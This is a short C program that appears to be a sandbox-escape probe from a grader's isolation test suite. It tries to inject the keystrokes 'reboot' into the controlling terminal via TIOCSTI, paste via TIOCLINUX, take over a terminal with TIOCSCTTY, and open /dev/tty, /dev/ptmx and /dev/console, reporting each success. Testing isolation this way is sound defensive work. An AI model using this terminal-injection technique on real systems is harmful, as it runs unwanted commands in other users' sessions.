/* Pushes a command into the terminal from which the grader was started. */
#include "attack.h"

#include <fcntl.h>
#include <linux/tiocl.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(void)
{
	static const char command[] = "reboot\n";
	char paste = TIOCL_PASTESEL;

	for (int fd = 0; fd < 16; fd++) {
		for (const char *at = command; *at; at++)
			if (ioctl(fd, TIOCSTI, at) == 0)
				leak("TIOCSTI %d", fd);
		if (ioctl(fd, TIOCLINUX, &paste) == 0)
			leak("TIOCLINUX %d", fd);
		if (ioctl(fd, TIOCSCTTY, 1) == 0)
			leak("TIOCSCTTY %d", fd);
	}
	if (open("/dev/tty", O_RDWR) >= 0)
		leak("/dev/tty");
	if (open("/dev/ptmx", O_RDWR) >= 0 || open("/dev/console", O_RDWR) >= 0)
		leak("terminals");
	return finish();
}
